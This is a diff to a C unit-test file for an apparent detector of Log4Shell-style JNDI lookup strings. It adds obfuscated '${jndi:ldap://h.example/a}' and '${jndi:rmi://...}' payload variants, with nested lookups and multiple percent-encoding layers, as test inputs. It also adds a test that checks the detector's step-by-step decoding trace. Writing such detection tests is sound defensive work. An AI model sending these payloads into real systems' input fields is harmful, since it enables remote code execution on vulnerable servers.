@@ -61,7 +61,9 @@ static const struct {
     {FIELD_PLAIN, "${jndi:ldap://h.example/a}", NAME},
     {FIELD_PLAIN, "%24%7Bjndi:ldap://h.example/a%7D", NAME},
     {FIELD_PLAIN, "$%7Bjndi:ldap://h.example/a%7D", NAME},
+    {FIELD_PLAIN, "${${env:X:-j}n${lower:D}i:ldap%3a//h.example/a}", NAME},
     {FIELD_PLAIN, "%252524%25257Bjndi%25253Aldap://h.example/a%25257D", NAME},
+    {FIELD_PLAIN, "%25252525252524%2525252525257Bjndi:ldap://h.example/a}", NAME},
     {FIELD_PLAIN, "\\u0024\\u007bjndi:ldap://h.example/a}", NAME},
     {FIELD_PLAIN, "%5Cu0024%5Cu007bjndi:ldap://h.example/a}", NAME},
     {FIELD_PLAIN, "\\44{jndi:ldap://h.example/a}", NAME},
@@ -196,6 +198,47 @@ static void layers_are_told(void **state)
     assert_int_equal(f.layers, 0);
 }
 
+/* What a watcher hears, one line per event. */
+static void on_reading(void *arg, enum reading_event event, unsigned taken, const char *what, struct bytes text)
+{
+    static const char *const events[] = {"layer", "begin", "step"};
+
+    buf_addf(arg, "%u %s %s %.*s\n", taken, events[event], what ? what : "-", (int)text.len, (const char *)text.p);
+}
+
+static void assert_told(const char *text, enum field_coding coding, const char *expected)
+{
+    struct buf told = buf_within(4096);
+    struct found f = {0};
+    bool spent;
+
+    resolver_watch(resolver, on_reading, &told);
+    resolver_run(resolver, bytes_str(text), coding, true, on_resolved, &f, &spent);
+    resolver_watch(resolver, NULL, NULL);
+    buf_add_byte(&told, '\0');
+    assert_string_equal((const char *)told.p, expected);
+    buf_drop(&told);
+}
+
+static void readings_are_told(void **state)
+{
+    (void)state;
+    assert_told("${${lower:J}ndi:rmi://h/a}", FIELD_PLAIN,
+                "0 begin - ${${lower:J}ndi:rmi://h/a}\n0 step lower ${jndi:rmi://h/a}\n");
+    assert_told("%2524{jndi:rmi://h/a}", FIELD_PLAIN,
+                "0 layer url %24{jndi:rmi://h/a}\n1 layer url ${jndi:rmi://h/a}\n2 begin - ${jndi:rmi://h/a}\n");
+    /* As it stands it leads nowhere; without the percent sign it does. */
+    assert_told("${jndi:rmi%3a//h}", FIELD_PLAIN,
+                "0 begin - ${jndi:rmi%3a//h}\n0 layer url ${jndi:rmi://h}\n1 begin - ${jndi:rmi://h}\n");
+    /* What the place encodes comes off first, and stays off for what is tried after the text as it stands. */
+    assert_told("/${a:%255cu0024}", FIELD_URI,
+                "0 layer url /${a:%5cu0024}\n1 begin - /${a:%5cu0024}\n0 begin - /${a:%255cu0024}\n"
+                "0 layer url /${a:%5cu0024}\n1 layer url /${a:\\u0024}\n2 begin - /${a:\\u0024}\n"
+                /* ... and once more together, when no piece said anything */
+                "0 layer url /${a:%5cu0024}\n1 begin - /${a:%5cu0024}\n0 begin - /${a:%255cu0024}\n"
+                "0 layer url /${a:%5cu0024}\n1 layer url /${a:\\u0024}\n2 begin - /${a:\\u0024}\n");
+}
+
 /* Long hostile texts of each coding end, and within a test's patience. */
 static void hostile_texts_end(void **state)
 {
@@ -223,6 +266,7 @@ int main(void)
         cmocka_unit_test(wide_text_is_read),
         cmocka_unit_test(narrow_text_behind_wide_is_read),
         cmocka_unit_test(layers_are_told),
+        cmocka_unit_test(readings_are_told),
         cmocka_unit_test(hostile_texts_end),
     };
 
